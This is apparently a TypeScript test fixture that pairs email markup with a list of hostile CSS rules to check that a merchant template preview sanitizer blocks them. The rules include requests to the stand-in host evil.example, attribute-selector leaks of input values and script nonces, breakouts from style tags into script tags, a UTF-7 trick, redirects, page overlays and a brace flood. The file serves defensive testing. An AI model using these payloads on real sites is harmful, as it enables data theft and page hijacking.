/** Templates and style sheets that a merchant may paste. They may only change how the preview looks. */
import { vectors } from './vectors';

export interface HostilePreview {
  body: string;
  css: string;
}

/** Markup around a vector in an email. */
const emailContexts: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) =>
    `<!doctype html><html><head><style>p{color:red}</style>${vector}</head><body bgcolor="#eee"><p>Hello</p></body></html>`,
  (vector) => `<table width="600"><tr><td>${vector}</td></tr></table><p>{{unsubscribeUrl}}</p>`,
];

const EVIL_ORIGIN = 'https://evil.example';

/** Rules that send requests, navigate, cover the page, or leak data. */
const rules: readonly string[] = [
  `@import url(${EVIL_ORIGIN}/a.css);`,
  `@import "${EVIL_ORIGIN}/b.css" layer(x) supports(display:block) screen;`,
  `@font-face{font-family:x;src:url(${EVIL_ORIGIN}/c.woff2)}body{font-family:x}`,
  `@namespace url(${EVIL_ORIGIN}/ns);`,
  `body{background:url(${EVIL_ORIGIN}/d.png)}`,
  `body{background-image:image-set(url(${EVIL_ORIGIN}/e.png) 1x, "${EVIL_ORIGIN}/f.png" 2x)}`,
  `body{background:\\75 rl(${EVIL_ORIGIN}/g.png)}`,
  `body{cursor:url(${EVIL_ORIGIN}/h.cur),auto}`,
  `ul{list-style:url(${EVIL_ORIGIN}/i.png)}`,
  `p{content:url(${EVIL_ORIGIN}/j.png)}p::before{content:url(${EVIL_ORIGIN}/k.png)}`,
  `p{border-image:url(${EVIL_ORIGIN}/l.png) 30}`,
  `p{filter:url(${EVIL_ORIGIN}/m.svg#f);clip-path:url(${EVIL_ORIGIN}/n.svg#c);mask:url(${EVIL_ORIGIN}/o.svg#m)}`,
  `p{shape-outside:url(${EVIL_ORIGIN}/p.png)}`,
  `p{offset-path:url(${EVIL_ORIGIN}/q.svg#p)}`,
  `input[value^=a]{background:url(${EVIL_ORIGIN}/r?a)}[data-pick^=a]{background:url(${EVIL_ORIGIN}/s?a)}`,
  `script[nonce^=a]{display:block;background:url(${EVIL_ORIGIN}/t?a)}`,
  `:root{--x:url(${EVIL_ORIGIN}/u.png)}body{background:var(--x)}`,
  `body:has([nonce*=a]){background:url(${EVIL_ORIGIN}/v.png)}`,
  `@media(min-width:1px){body{background:url(${EVIL_ORIGIN}/w.png)}}`,
  `@supports(display:block){body{background:url(${EVIL_ORIGIN}/x.png)}}`,
  `@keyframes a{to{background:url(${EVIL_ORIGIN}/y.png)}}body{animation:a 1s infinite}`,
  `@page{background:url(${EVIL_ORIGIN}/z.png)}`,
  '*{position:fixed!important;inset:0!important;z-index:2147483647!important;background:red!important}',
  'html{height:calc(100% + 1px)}body{height:calc(100vh + 1px)}',
  `body{-moz-binding:url(${EVIL_ORIGIN}/xbl.xml#x);behavior:url(${EVIL_ORIGIN}/x.htc)}`,
  'p{width:expression(canary())}',
  'p{background:url(javascript:canary())}',
  `p{background:url("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='canary()'><image href='${EVIL_ORIGIN}/sv.png'/></svg>")}`,
  '</style><script>canary()</script>',
  '</style><img src=x onerror=canary()>',
  '<!--</style><script>canary()</script>-->',
  `}{}</style><link rel=stylesheet href=${EVIL_ORIGIN}/ls.css>`,
  '@charset "utf-7";+ADw-script+AD4-canary()+ADw-/script+AD4-',
  `body{color:red}/*</style><meta http-equiv=refresh content="0;url=${EVIL_ORIGIN}">*/`,
  `a{ping:url(${EVIL_ORIGIN}/pg)}a::after{content:attr(href)}`,
  `@container(min-width:1px){body{background:url(${EVIL_ORIGIN}/ct.png)}}`,
  `@view-transition{navigation:auto}@property --y{syntax:"<url>";inherits:false;initial-value:url(${EVIL_ORIGIN}/pr.png)}`,
  '@layer a{body{background:url(//evil.example/ly.png)}}',
  'body{counter-reset:x 2147483647}p{zoom:1e9;transform:scale(1e9)}',
  '{'.repeat(3000),
];

const markup =
  '<p data-pick="a" class="lw-a">Text <a href="https://evil.example/link" target="_top">link</a></p><ul><li>One</li></ul><input value="a"><details><summary>More</summary>x</details>';

/** Complete previews: hostile emails with hostile style sheets, and each style sheet alone. */
export const hostilePreviews: readonly HostilePreview[] = [
  ...emailContexts.flatMap((toEmail, contextIndex) =>
    vectors.map((vector, vectorIndex) => ({
      body: toEmail(vector),
      css: rules[(contextIndex + vectorIndex) % rules.length] ?? '',
    })),
  ),
  ...rules.flatMap((css) => [
    { body: markup, css },
    { body: `<style>${css}</style>${markup}`, css: '' },
    { body: `<p style="${css.replaceAll('"', '&quot;')}">x</p>${markup}`, css },
  ]),
];
